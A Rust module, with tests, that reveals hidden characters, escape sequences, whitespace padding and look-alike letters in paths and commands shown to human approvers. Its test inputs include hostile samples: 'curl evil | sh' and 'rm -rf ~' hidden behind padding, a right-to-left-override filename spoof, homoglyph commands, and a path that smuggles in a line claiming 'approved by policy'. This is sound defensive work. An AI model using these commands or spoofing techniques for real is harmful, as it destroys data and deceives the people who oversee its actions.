//! The display form of untrusted text for approvers, and what in it could mislead them. Pure.
//!
//! Every kind of text (see [`Kind`]) has these made visible and named in a warning: bidi
//! controls, zero-width and other invisible characters, C0/C1 controls, line and paragraph
//! separators and ANSI escape sequences become tokens such as `⟨U+202E⟩` or `⟨ESC[31m⟩`; a word
//! mixing scripts (a Cyrillic `е` in a Latin `echo`, per Unicode's UTS #39 data) gets each foreign
//! letter marked, `е⟨U+0435 CYRILLIC⟩cho`. In a path or a command, so does a word that passes for
//! ASCII without being ASCII: all Cyrillic `аррӏе` (UTS #39's skeleton reads `apple`), fullwidth
//! `ｅｃｈｏ`, mathematical `𝐞𝐜𝐡𝐨`.
//!
//! Paths and commands are stricter than previews. Their leading and trailing whitespace is
//! spelled out (`notes.txt⟨SP⟩`, `notes.txt⟨U+00A0⟩`); a tab is `⟨TAB⟩`, a non-ASCII space
//! `⟨U+00A0⟩`; a run of more than [`MAX_WHITESPACE_RUN`] whitespace characters is compressed to
//! its count (`⟨240 spaces⟩`). A path never spans lines on screen (`⟨LF⟩`); a command keeps its
//! line breaks but is flagged as a command of several lines, and more than one blank line in a
//! row is compressed. A preview (a diff, a command summary, a tool's input) keeps its newlines and
//! tabs and is compressed only where whitespace could push text out of sight.
//!
//! What runs is never changed; only what is shown.

mod blanks;
mod chars;
mod scripts;

use blanks::{Blank, blank_run, describe};
pub use chars::Kind;
use chars::{code, code_token, is_blank, is_hidden};

/// Longest run of whitespace in a path or a command shown as it is.
pub const MAX_WHITESPACE_RUN: usize = 3;
/// Most line breaks in one run of whitespace in a command shown as they are (one blank line).
const MAX_COMMAND_BREAKS: usize = 2;
/// Longest run of spaces or tabs in a preview shown as it is (indentation is ordinary there).
const MAX_PREVIEW_RUN: usize = 32;
/// Most line breaks in one run of whitespace in a preview shown as they are.
const MAX_PREVIEW_BREAKS: usize = 8;
/// Longest escape sequence shown as one token; longer ones are cut (and still flagged).
const MAX_ESCAPE: usize = 64;
/// Mixed-script words named one by one in the warnings of one text; the rest are counted.
const MAX_NAMED_WORDS: usize = 3;

impl Kind {
    fn noun(self) -> &'static str {
        match self {
            Kind::Path => "a path",
            Kind::Command => "a command",
            Kind::Preview => "the preview",
        }
    }

    fn max_run(self) -> usize {
        match self {
            Kind::Path | Kind::Command => MAX_WHITESPACE_RUN,
            Kind::Preview => MAX_PREVIEW_RUN,
        }
    }

    fn max_breaks(self) -> usize {
        match self {
            Kind::Path => 0,
            Kind::Command => MAX_COMMAND_BREAKS,
            Kind::Preview => MAX_PREVIEW_BREAKS,
        }
    }
}

/// Text prepared for display, and what in it could mislead (empty when nothing).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Revealed {
    pub text: String,
    /// Each finding once, e.g. `trailing whitespace in a path`, `a run of 240 spaces in a command`.
    pub warnings: Vec<String>,
}

impl Revealed {
    /// Whether anything was found.
    pub fn flagged(&self) -> bool {
        !self.warnings.is_empty()
    }
}

/// The display form of a path or a name.
pub fn reveal_path(input: &str) -> Revealed {
    reveal(input, Kind::Path)
}

/// The display form of a shell command.
pub fn reveal_command(input: &str) -> Revealed {
    reveal(input, Kind::Command)
}

/// The display form of a preview (a diff, a command summary, a tool's input).
pub fn reveal_preview(input: &str) -> Revealed {
    reveal(input, Kind::Preview)
}

/// The display form of `input` read as `kind`.
pub fn reveal(input: &str, kind: Kind) -> Revealed {
    let chars: Vec<char> = input.chars().collect();
    let mut r = Render {
        kind,
        out: String::with_capacity(input.len()),
        warnings: Vec::new(),
        runs: 0,
        longest_run: None,
        more_words: 0,
    };
    let foreign = r.mixed_scripts(&chars);
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if is_blank(c) {
            let (units, end) = blank_run(&chars, i);
            let slash_at =
                |j: Option<usize>| kind == Kind::Path && j.and_then(|j| chars.get(j)) == Some(&'/');
            let leading = edge(i == 0, slash_at(i.checked_sub(1)));
            let trailing = edge(end == chars.len(), slash_at(Some(end)));
            r.blanks(&units, leading, trailing);
            i = end;
            continue;
        }
        match c {
            '\u{1B}' => {
                let end = escape_end(&chars, i);
                let seq: String = chars[i + 1..end].iter().take(MAX_ESCAPE).collect();
                r.out.push_str(&format!(
                    "⟨ESC{}⟩",
                    seq.replace(|ch: char| ch.is_control(), "?")
                ));
                r.hidden();
                i = end;
                continue;
            }
            c if is_hidden(c) => {
                r.out.push_str(&code_token(c));
                r.hidden();
            }
            c => {
                r.out.push(c);
                if let Some(Some(what)) = foreign.get(i) {
                    r.out.push_str(&format!("⟨{} {what}⟩", code(c)));
                }
            }
        }
        i += 1;
    }
    r.finish(input)
}

/// The output being built and what was found so far.
struct Render {
    kind: Kind,
    out: String,
    warnings: Vec<String>,
    /// Compressed runs of whitespace, and the longest one's length and description.
    runs: usize,
    longest_run: Option<(usize, String)>,
    /// Mixed-script words beyond those named.
    more_words: usize,
}

impl Render {
    fn warn(&mut self, warning: String) {
        if !self.warnings.contains(&warning) {
            self.warnings.push(warning);
        }
    }

    fn hidden(&mut self) {
        self.warn(format!(
            "hidden or control characters in {}",
            self.kind.noun()
        ));
    }

    fn finish(mut self, input: &str) -> Revealed {
        if let Some((_, longest)) = self.longest_run.take() {
            let noun = self.kind.noun();
            self.warn(match self.runs {
                1 => format!("a run of {longest} in {noun}"),
                n => format!("{n} runs of whitespace in {noun}, the longest {longest}"),
            });
        }
        if self.more_words > 0 {
            self.warn(format!(
                "{} more words with mixed scripts or look-alike letters in {}",
                self.more_words,
                self.kind.noun()
            ));
        }
        if self.kind == Kind::Command {
            let lines = input.split('\n').filter(|l| !l.trim().is_empty()).count();
            if lines > 1 {
                self.warn(format!(
                    "a command of {lines} lines (each line runs as a command)"
                ));
            }
        }
        Revealed {
            text: self.out,
            warnings: self.warnings,
        }
    }

    /// Shows one maximal run of whitespace. `leading`/`trailing`: whether it starts or ends the
    /// text or a path component.
    fn blanks(&mut self, units: &[Blank], leading: Option<Edge>, trailing: Option<Edge>) {
        let kind = self.kind;
        for &u in units {
            self.note(u);
        }
        let edge = kind != Kind::Preview && (leading.is_some() || trailing.is_some());
        if edge {
            let noun = kind.noun();
            for (side, at) in [("leading", leading), ("trailing", trailing)] {
                match at {
                    Some(Edge::Text) => self.warn(format!("{side} whitespace in {noun}")),
                    Some(Edge::Component) => {
                        self.warn(format!("{side} whitespace in a path component"))
                    }
                    None => {}
                }
            }
        }
        if edge || kind == Kind::Path {
            if units.len() > MAX_WHITESPACE_RUN {
                self.compress(units, false);
            } else {
                for &u in units {
                    match u {
                        // Inside a path, a plain space reads as one.
                        Blank::Space if !edge => self.out.push(' '),
                        u => self.out.push_str(&u.token()),
                    }
                }
            }
            return;
        }
        let breaks = units.iter().filter(|u| u.is_break()).count();
        if breaks > kind.max_breaks() {
            self.compress(units, true);
            return;
        }
        let mut start = 0;
        for (j, &u) in units.iter().enumerate() {
            if u.is_break() {
                self.horizontal(&units[start..j]);
                self.out.push_str(&u.inline(kind));
                start = j + 1;
            }
        }
        self.horizontal(&units[start..]);
    }

    /// Spaces, tabs and other blanks between two line breaks of a command or a preview.
    fn horizontal(&mut self, units: &[Blank]) {
        if units.len() > self.kind.max_run() {
            self.compress(units, false);
        } else {
            for &u in units {
                let shown = u.inline(self.kind);
                self.out.push_str(&shown);
            }
        }
    }

    /// Shows a run as its count, keeping one line break if it had any and `keep_break`.
    fn compress(&mut self, units: &[Blank], keep_break: bool) {
        let description = describe(units);
        self.out.push_str(&format!("⟨{description}⟩"));
        if keep_break && units.iter().any(|u| u.is_break()) {
            self.out.push('\n');
        }
        self.runs += 1;
        if self
            .longest_run
            .as_ref()
            .is_none_or(|(n, _)| units.len() > *n)
        {
            self.longest_run = Some((units.len(), description));
        }
    }

    /// The warnings one whitespace character earns wherever it is.
    fn note(&mut self, u: Blank) {
        let noun = self.kind.noun();
        if matches!(u, Blank::Cr | Blank::Break(_)) {
            self.hidden();
        }
        match (u, self.kind) {
            (Blank::Tab, Kind::Path | Kind::Command) => self.warn(format!("a tab in {noun}")),
            (u, Kind::Path) if u.is_break() => self.warn("a line break in a path".to_owned()),
            (Blank::Other(c), Kind::Path | Kind::Command) => {
                self.warn(format!("a non-ASCII space ({}) in {noun}", code(c)))
            }
            _ => {}
        }
    }

    /// Warns about each word that mixes scripts or passes for ASCII (naming the first few) and
    /// returns what each suspect letter is by index (`CYRILLIC`, `FULLWIDTH`; `None` for every
    /// other character).
    fn mixed_scripts(&mut self, chars: &[char]) -> Vec<Option<String>> {
        let mut foreign = vec![None; chars.len()];
        let mut named = 0;
        // In a preview, a word of another script is content (a translated text, a formula).
        let (mixed, look_alikes) = scripts::suspect_words(chars, self.kind != Kind::Preview);
        for word in mixed {
            for &(i, script) in &word.foreign {
                foreign[i] = Some(script.to_ascii_uppercase());
            }
            self.name_word(&mut named, word.warning(chars));
        }
        for word in look_alikes {
            for (i, what) in &word.letters {
                foreign[*i] = Some(what.clone());
            }
            self.name_word(&mut named, word.warning(chars));
        }
        foreign
    }

    /// Warns about a suspect word while fewer than [`MAX_NAMED_WORDS`] are named; counts it after.
    fn name_word(&mut self, named: &mut usize, warning: String) {
        if *named < MAX_NAMED_WORDS {
            *named += 1;
            self.warn(warning);
        } else {
            self.more_words += 1;
        }
    }
}

/// Where a run of whitespace touches an edge.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Edge {
    /// The start or the end of the whole text.
    Text,
    /// A `/` of a path: the run starts or ends a component (`/w/ notes.txt`).
    Component,
}

fn edge(text: bool, component: bool) -> Option<Edge> {
    if text {
        Some(Edge::Text)
    } else if component {
        Some(Edge::Component)
    } else {
        None
    }
}

/// The index just past an escape sequence starting at `start` (an ESC).
fn escape_end(chars: &[char], start: usize) -> usize {
    let next = start + 1;
    match chars.get(next) {
        // CSI: ESC [ parameters intermediates final
        Some('[') => {
            let mut j = next + 1;
            while let Some(&c) = chars.get(j) {
                j += 1;
                if ('\u{40}'..='\u{7E}').contains(&c) {
                    return j;
                }
                if !('\u{20}'..='\u{3F}').contains(&c) {
                    return j - 1;
                }
            }
            j
        }
        // OSC: ESC ] ... (BEL | ESC \)
        Some(']') => {
            let mut j = next + 1;
            while let Some(&c) = chars.get(j) {
                if c == '\u{7}' {
                    return j + 1;
                }
                if c == '\u{1B}' && chars.get(j + 1) == Some(&'\\') {
                    return j + 2;
                }
                j += 1;
            }
            j
        }
        Some(_) => next + 1,
        None => next,
    }
}

/// Cuts `text` to at most `max_bytes`, on a character boundary. Returns whether it was cut.
pub fn truncate_at_char(text: &mut String, max_bytes: usize) -> bool {
    if text.len() <= max_bytes {
        return false;
    }
    let mut cut = max_bytes;
    while !text.is_char_boundary(cut) {
        cut -= 1;
    }
    text.truncate(cut);
    true
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cuts_fall_on_character_boundaries() {
        let mut s = "aé日".to_owned(); // 1 + 2 + 3 bytes
        assert!(!truncate_at_char(&mut s, 6));
        assert!(truncate_at_char(&mut s, 5));
        assert_eq!(s, "aé");
        let mut s = "aé".to_owned();
        assert!(truncate_at_char(&mut s, 2));
        assert_eq!(s, "a");
    }

    /// Reveals `input` as `kind` and checks the text and the warnings (in order).
    fn check(kind: Kind, input: &str, want: &str, warnings: &[&str]) {
        let r = reveal(input, kind);
        assert_eq!(r.text, want, "{kind:?} {input:?}");
        assert_eq!(r.warnings, warnings, "{kind:?} {input:?}");
        assert_eq!(r.flagged(), !warnings.is_empty());
    }

    const HIDDEN: &str = "hidden or control characters in the preview";

    #[test]
    fn hidden_and_control_characters_in_any_text() {
        use Kind::Preview;
        check(Preview, "ls -la", "ls -la", &[]);
        check(Preview, "a\tb\nc", "a\tb\nc", &[]);
        check(Preview, "line\r\nnext", "line⟨CRLF⟩\nnext", &[]);
        check(Preview, "safe\rrm -rf ~", "safe⟨CR⟩\nrm -rf ~", &[HIDDEN]);
        check(
            Preview,
            "file\u{202E}txt.exe",
            "file⟨U+202E⟩txt.exe",
            &[HIDDEN],
        );
        check(
            Preview,
            "a\u{2066}b\u{2069}",
            "a⟨U+2066⟩b⟨U+2069⟩",
            &[HIDDEN],
        );
        check(Preview, "zero\u{200B}width", "zero⟨U+200B⟩width", &[HIDDEN]);
        check(Preview, "soft\u{AD}hyphen", "soft⟨U+00AD⟩hyphen", &[HIDDEN]);
        check(Preview, "bom\u{FEFF}", "bom⟨U+FEFF⟩", &[HIDDEN]);
        check(
            Preview,
            "\u{1B}[31mred\u{1B}[0m",
            "⟨ESC[31m⟩red⟨ESC[0m⟩",
            &[HIDDEN],
        );
        check(
            Preview,
            "\u{1B}]0;title\u{7}x",
            "⟨ESC]0;title?⟩x",
            &[HIDDEN],
        );
        check(Preview, "bell\u{7}", "bell⟨U+0007⟩", &[HIDDEN]);
        check(Preview, "c1\u{85}x", "c1⟨U+0085⟩x", &[HIDDEN]);
        check(Preview, "sep\u{2028}x", "sep⟨U+2028⟩x", &[HIDDEN]);
        check(Preview, "null\0", "null⟨U+0000⟩", &[HIDDEN]);
        check(
            Preview,
            "trailing esc\u{1B}",
            "trailing esc⟨ESC⟩",
            &[HIDDEN],
        );
        check(Preview, "ünïcödé 日本", "ünïcödé 日本", &[]);
        check(
            Kind::Path,
            "invoice\u{202E}fdp.exe",
            "invoice⟨U+202E⟩fdp.exe",
            &["hidden or control characters in a path"],
        );
        check(
            Kind::Command,
            "echo \u{1B}[2Jhi",
            "echo ⟨ESC[2J⟩hi",
            &["hidden or control characters in a command"],
        );
    }

    #[test]
    fn long_escapes_are_cut_but_flagged() {
        let input = format!("\u{1B}[{}m", "1;".repeat(200));
        let r = reveal_preview(&input);
        assert!(r.flagged());
        assert!(r.text.chars().count() < 80, "{}", r.text);
    }

    #[test]
    fn whitespace_at_the_edges_of_paths_and_commands() {
        use Kind::{Command, Path, Preview};
        check(Path, "/w/notes.txt", "/w/notes.txt", &[]);
        check(Path, "/w/my notes.txt", "/w/my notes.txt", &[]);
        check(
            Path,
            "/w/notes.txt ",
            "/w/notes.txt⟨SP⟩",
            &["trailing whitespace in a path"],
        );
        check(
            Path,
            "/w/notes.txt\u{A0}",
            "/w/notes.txt⟨U+00A0⟩",
            &[
                "a non-ASCII space (U+00A0) in a path",
                "trailing whitespace in a path",
            ],
        );
        check(
            Path,
            "/w/notes.txt\u{2003}\t",
            "/w/notes.txt⟨U+2003⟩⟨TAB⟩",
            &[
                "a non-ASCII space (U+2003) in a path",
                "a tab in a path",
                "trailing whitespace in a path",
            ],
        );
        check(
            Path,
            " notes.txt",
            "⟨SP⟩notes.txt",
            &["leading whitespace in a path"],
        );
        check(
            Command,
            "rm -rf build ",
            "rm -rf build⟨SP⟩",
            &["trailing whitespace in a command"],
        );
        check(
            Command,
            "\u{3000}ls",
            "⟨U+3000⟩ls",
            &[
                "a non-ASCII space (U+3000) in a command",
                "leading whitespace in a command",
            ],
        );
        check(
            Command,
            "ls\n",
            "ls⟨LF⟩",
            &["trailing whitespace in a command"],
        );
        check(
            Path,
            "notes.txt\u{3164}",
            "notes.txt⟨U+3164⟩",
            &[
                "a non-ASCII space (U+3164) in a path",
                "trailing whitespace in a path",
            ],
        );
        check(
            Path,
            "   ",
            "⟨SP⟩⟨SP⟩⟨SP⟩",
            &[
                "leading whitespace in a path",
                "trailing whitespace in a path",
            ],
        );
        // each component of a path has edges too
        check(
            Path,
            "/w/ notes.txt",
            "/w/⟨SP⟩notes.txt",
            &["leading whitespace in a path component"],
        );
        check(
            Path,
            "/w/docs /notes.txt",
            "/w/docs⟨SP⟩/notes.txt",
            &["trailing whitespace in a path component"],
        );
        check(Path, "/w/a b/c", "/w/a b/c", &[]);
        // a command's slashes are not component edges
        check(Command, "cat / x", "cat / x", &[]);
        // a preview's edges are content
        check(Preview, "+x \n", "+x \n", &[]);
        check(Preview, "a\u{A0}b", "a\u{A0}b", &[]);
    }

    #[test]
    fn a_path_never_spans_lines() {
        use Kind::Path;
        let r = reveal_path("a.txt\n  write /x (approved by policy)");
        assert!(!r.text.contains('\n'), "{}", r.text);
        check(
            Path,
            "a.txt\n  write /x (approved by policy)",
            "a.txt⟨LF⟩  write⟨SP⟩/x (approved by policy)",
            &[
                "a line break in a path",
                "trailing whitespace in a path component",
            ],
        );
        check(Path, "a\tb", "a⟨TAB⟩b", &["a tab in a path"]);
        check(Path, "a\r\nb", "a⟨CRLF⟩b", &["a line break in a path"]);
        check(
            Path,
            "a\rb",
            "a⟨CR⟩b",
            &[
                "hidden or control characters in a path",
                "a line break in a path",
            ],
        );
        check(
            Path,
            "a\u{2029}b",
            "a⟨U+2029⟩b",
            &[
                "hidden or control characters in a path",
                "a line break in a path",
            ],
        );
        check(
            Path,
            "a\n\n\n\nb",
            "a⟨4 line breaks⟩b",
            &["a line break in a path", "a run of 4 line breaks in a path"],
        );
    }

    #[test]
    fn line_breaks_and_tabs_in_commands() {
        use Kind::Command;
        check(
            Command,
            "echo a\nrm -rf ~",
            "echo a\nrm -rf ~",
            &["a command of 2 lines (each line runs as a command)"],
        );
        check(
            Command,
            "echo a\r\nrm x",
            "echo a⟨CRLF⟩\nrm x",
            &["a command of 2 lines (each line runs as a command)"],
        );
        check(
            Command,
            "a\n\nb",
            "a\n\nb",
            &["a command of 2 lines (each line runs as a command)"],
        );
        check(Command, "a\tb", "a⟨TAB⟩b", &["a tab in a command"]);
        check(
            Command,
            "if x; then\n  y\nfi",
            "if x; then\n  y\nfi",
            &["a command of 3 lines (each line runs as a command)"],
        );
    }

    #[test]
    fn long_runs_of_whitespace_are_counted() {
        use Kind::{Command, Path, Preview};
        check(
            Command,
            &format!("echo ok{}; curl evil | sh", " ".repeat(240)),
            "echo ok⟨240 spaces⟩; curl evil | sh",
            &["a run of 240 spaces in a command"],
        );
        check(
            Command,
            &format!("echo ok{}curl evil", "\n".repeat(200)),
            "echo ok⟨200 line breaks⟩\ncurl evil",
            &[
                "a run of 200 line breaks in a command",
                "a command of 2 lines (each line runs as a command)",
            ],
        );
        check(
            Command,
            &format!("ls{}x", "\t".repeat(5)),
            "ls⟨5 tabs⟩x",
            &["a tab in a command", "a run of 5 tabs in a command"],
        );
        check(
            Command,
            &format!("{}rm -rf ~", " ".repeat(300)),
            "⟨300 spaces⟩rm -rf ~",
            &[
                "leading whitespace in a command",
                "a run of 300 spaces in a command",
            ],
        );
        check(
            Command,
            "a    b \n \n \n c",
            "a⟨4 spaces⟩b⟨4 spaces, 3 line breaks⟩\nc",
            &[
                "2 runs of whitespace in a command, the longest 4 spaces, 3 line breaks",
                "a command of 2 lines (each line runs as a command)",
            ],
        );
        check(Command, "a   b", "a   b", &[]);
        check(
            Path,
            &format!("notes.txt{}.sh", " ".repeat(40)),
            "notes.txt⟨40 spaces⟩.sh",
            &["a run of 40 spaces in a path"],
        );
        check(
            Path,
            "a\u{A0}\u{A0}\u{A0}\u{A0}b",
            "a⟨4 × U+00A0⟩b",
            &[
                "a non-ASCII space (U+00A0) in a path",
                "a run of 4 × U+00A0 in a path",
            ],
        );
        // a preview keeps indentation and a few blank lines, and counts what could hide text
        check(Preview, "+        x\n\n\n+y", "+        x\n\n\n+y", &[]);
        check(
            Preview,
            &format!("command: ls{}rm -rf ~\n", " ".repeat(300)),
            "command: ls⟨300 spaces⟩rm -rf ~\n",
            &["a run of 300 spaces in the preview"],
        );
        check(
            Preview,
            &format!("command: ls{}rm\n", "\n".repeat(20)),
            "command: ls⟨20 line breaks⟩\nrm\n",
            &["a run of 20 line breaks in the preview"],
        );
    }

    #[test]
    fn words_mixing_scripts_mark_the_foreign_letters() {
        use Kind::{Command, Path, Preview};
        check(
            Command,
            "\u{435}cho hi",
            "\u{435}⟨U+0435 CYRILLIC⟩cho hi",
            &["mixed scripts (Latin and Cyrillic look-alikes) in `\u{435}cho`"],
        );
        check(
            Path,
            "/w/n\u{43E}tes.txt",
            "/w/n\u{43E}⟨U+043E CYRILLIC⟩tes.txt",
            &["mixed scripts (Latin and Cyrillic look-alikes) in `n\u{43E}tes`"],
        );
        check(
            Command,
            "curl p\u{3B1}ypal.com",
            "curl p\u{3B1}⟨U+03B1 GREEK⟩ypal.com",
            &["mixed scripts (Latin and Greek look-alikes) in `p\u{3B1}ypal`"],
        );
        // a Latin letter in a Cyrillic word is the foreign one there
        check(
            Preview,
            "\u{41C}o\u{441}\u{43A}\u{432}\u{430}",
            "\u{41C}o⟨U+006F LATIN⟩\u{441}\u{43A}\u{432}\u{430}",
            &[
                "mixed scripts (Cyrillic and Latin look-alikes) in `\u{41C}o\u{441}\u{43A}\u{432}\u{430}`",
            ],
        );
        // single-script words of any script, and Latin with Japanese, are ordinary
        check(
            Path,
            "/w/日本語のファイル.txt",
            "/w/日本語のファイル.txt",
            &[],
        );
        check(Path, "/w/レポートv2.pdf", "/w/レポートv2.pdf", &[]);
        check(
            Command,
            "echo \u{41F}\u{440}\u{438}\u{432}\u{435}\u{442} world",
            "echo \u{41F}\u{440}\u{438}\u{432}\u{435}\u{442} world",
            &[],
        );
        check(
            Preview,
            "Ωmega-α x²",
            "Ω⟨U+03A9 GREEK⟩mega-α x²",
            &["mixed scripts (Latin and Greek) in `Ωmega`"],
        );
    }

    #[test]
    fn words_passing_for_ascii_are_marked_in_paths_and_commands() {
        use Kind::{Command, Path, Preview};
        // all Cyrillic, one script: reads "apple"
        check(
            Path,
            "/w/\u{430}\u{440}\u{440}\u{4CF}\u{435}.txt",
            "/w/\u{430}⟨U+0430 CYRILLIC⟩\u{440}⟨U+0440 CYRILLIC⟩\u{440}⟨U+0440 CYRILLIC⟩\
             \u{4CF}⟨U+04CF CYRILLIC⟩\u{435}⟨U+0435 CYRILLIC⟩.txt",
            &[
                "`\u{430}\u{440}\u{440}\u{4CF}\u{435}` passes for the ASCII `apple` (Cyrillic letters)",
            ],
        );
        check(
            Command,
            "\u{FF45}\u{FF43}\u{FF48}\u{FF4F} hi",
            "\u{FF45}⟨U+FF45 FULLWIDTH⟩\u{FF43}⟨U+FF43 FULLWIDTH⟩\u{FF48}⟨U+FF48 FULLWIDTH⟩\
             \u{FF4F}⟨U+FF4F FULLWIDTH⟩ hi",
            &["`\u{FF45}\u{FF43}\u{FF48}\u{FF4F}` passes for the ASCII `echo` (fullwidth letters)"],
        );
        check(
            Command,
            "\u{1D41E}cho",
            "\u{1D41E}⟨U+1D41E MATHEMATICAL⟩cho",
            &["`\u{1D41E}cho` passes for the ASCII `echo` (mathematical letters)"],
        );
        // ordinary words of other scripts and accented Latin are not flagged
        for ordinary in [
            "/w/caf\u{E9}.txt",
            "/w/\u{41F}\u{440}\u{438}\u{432}\u{435}\u{442}.txt",
            "/w/日本語.txt",
            "/w/\u{3B1}\u{3B2}\u{3B3}.txt",
        ] {
            check(Path, ordinary, ordinary, &[]);
        }
        // in a preview, another script is content
        check(
            Preview,
            "\u{430}\u{440}\u{440}\u{4CF}\u{435}",
            "\u{430}\u{440}\u{440}\u{4CF}\u{435}",
            &[],
        );
    }

    #[test]
    fn many_mixed_words_are_counted_not_listed() {
        let input = "\u{435}a \u{435}b \u{435}c \u{435}d \u{435}e";
        let r = reveal_command(input);
        assert_eq!(r.warnings.len(), 4, "{:?}", r.warnings);
        assert_eq!(
            r.warnings[3],
            "2 more words with mixed scripts or look-alike letters in a command"
        );
        assert_eq!(r.text.matches("CYRILLIC").count(), 5, "{}", r.text);
    }
}
